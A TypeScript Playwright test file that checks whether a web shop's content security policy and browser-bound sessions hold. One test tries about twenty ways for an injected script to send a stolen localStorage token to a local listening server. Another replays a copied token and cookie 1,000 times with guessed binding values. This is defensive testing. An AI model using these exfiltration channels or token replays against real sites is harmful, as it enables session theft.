import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { createServer } from 'node:net'
import { logInOn, registered } from '#tests/journeys/people.ts'
import { visit } from '#tests/journeys/visits.ts'
import { expect, inOwnShop } from '#tests/running/shop.ts'

/** A shop that shoppers reach over HTTPS: then sessions are bound to their browser. */
const test = inOwnShop({ PUBLIC_URL: 'https://fish.example' })

/** Somebody else's machine: notes every byte that comes. */
async function openThief() {
  const heard: string[] = []
  const server = createServer((socket) => {
    socket.on('data', (bytes) => heard.push(bytes.toString())).on('error', () => undefined)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return { heard, url: `http://127.0.0.1:${port}`, close: () => server.close() }
}

test('a script that got into a page all the same can send nothing out', async ({ page }) => {
  const thief = await openThief()
  await visit(page, '/home')
  const blocked = await page.evaluate(async (url) => {
    localStorage.setItem('token', 'a secret')
    const loot = `${url}/?${localStorage.getItem('token') ?? ''}`
    const broken: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective))
    const { body } = document
    const put = (element: string, fields: Record<string, string>) =>
      body.append(Object.assign(document.createElement(element), fields))
    // What a browser reports by another name, or need not load at once, has no name here: nothing may come of it either.
    const ways: [string, () => unknown][] = [
      ['connect-src', () => fetch(loot)],
      ['connect-src', () => fetch(loot, { method: 'POST', mode: 'no-cors', body: loot, keepalive: true })],
      ['connect-src', () => navigator.sendBeacon(loot, loot)],
      ['connect-src', () => new EventSource(loot)],
      ['connect-src', () => new WebSocket(loot.replace('http', 'ws'))],
      [
        'connect-src',
        () => {
          const asked = new XMLHttpRequest()
          asked.open('GET', loot)
          asked.send()
        },
      ],
      ['img-src', () => Object.assign(new Image(), { src: loot })],
      ['', () => document.body.style.setProperty('background', `url(${loot})`)],
      ['', () => new FontFace('x', `url(${loot})`).load()],
      ['media-src', () => put('video', { src: loot })],
      ['media-src', () => put('audio', { src: loot })],
      ['frame-src', () => put('iframe', { src: loot })],
      ['', () => put('embed', { src: loot })],
      ['style-src-elem', () => put('link', { rel: 'stylesheet', href: loot })],
      ['', () => put('link', { rel: 'manifest', href: loot })],
      ['script-src-elem', () => import(/* @vite-ignore */ loot)],
      [
        'form-action',
        () => {
          const form = Object.assign(document.createElement('form'), { action: loot, method: 'post' })
          document.body.append(form)
          form.submit()
        },
      ],
      [
        'connect-src',
        () => {
          const link = Object.assign(document.createElement('a'), { href: '#x', ping: loot })
          document.body.append(link)
          link.click()
        },
      ],
      ['base-uri', () => put('base', { href: loot })],
    ]
    const silent: string[] = []
    for (const [directive, way] of ways) {
      const before = broken.filter((one) => one === directive).length
      try {
        await Promise.race([way(), new Promise((done) => setTimeout(done, 300))])
      } catch {
        // refused at once
      }
      for (let turn = 0; turn < 20 && broken.filter((one) => one === directive).length === before; turn += 1)
        await new Promise((done) => setTimeout(done, 25))
      if (directive !== '' && broken.filter((one) => one === directive).length === before)
        silent.push(`${directive} ${way.toString()}`)
    }
    return { silent, ways: ways.length }
  }, thief.url)
  // Making script out of text is refused before there is anything to load.
  const made = await page.evaluate((url) => {
    const makes = [
      () => Object.assign(document.createElement('script'), { src: url }),
      () => Object.assign(document.createElement('div'), { innerHTML: '<img src=x>' }),
      () => new Worker(url),
      () => document.write('<p>'),
    ]
    return makes.map((make) => {
      try {
        return make() === null
      } catch (trouble) {
        return trouble instanceof TypeError
      }
    })
  }, thief.url)
  thief.close()
  expect(thief.heard).toEqual([])
  expect(made).toEqual([true, true, true, true])
  expect(blocked.silent).toEqual([])
})

test('a token that was copied out of a page opens nothing elsewhere, in 1,000 tries', async ({ page, shop }) => {
  const person = await registered(page.request)
  await page.goto('/login')
  await logInOn(page, person)
  await expect(page).not.toHaveURL(/\/login/)
  const loot = await page.evaluate(() => ({ token: localStorage.getItem('token'), cookies: document.cookie }))
  expect(loot.token).toMatch(/^[\w-]{43}$/)
  // Half of what a browser stays by: alone it opens nothing.
  expect(loot.cookies).toMatch(/^__Host-staying=[\w-]{22}$/)
  // In its own browser it keeps working.
  await page.goto('/account')
  await expect(page.getByText(person.email)).toBeVisible()

  const paths = ['/auth/checkAuth', '/orders', '/orders/userorders', '/auth/sessions']
  let opened = 0
  for (let nr = 0; nr < 1000; nr += 1) {
    const guess = Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString('base64url')
    const bind = ['', '; __Host-bind=', `; __Host-bind=${guess}`, `; x=1; __Host-bind="${guess}"`][nr % 4]
    const headers = {
      authorization: `Bearer ${loot.token}`,
      'sec-fetch-site': 'same-origin',
      origin: 'https://fish.example',
      cookie: `${loot.cookies}${bind}`,
    }
    const answer = await fetch(shop.url + paths[nr % paths.length], { headers })
    const { authenticated } = (await answer.json()) as { authenticated?: boolean }
    if (authenticated === undefined ? answer.status !== 401 : authenticated) opened += 1
  }
  expect(opened).toBe(0)
})
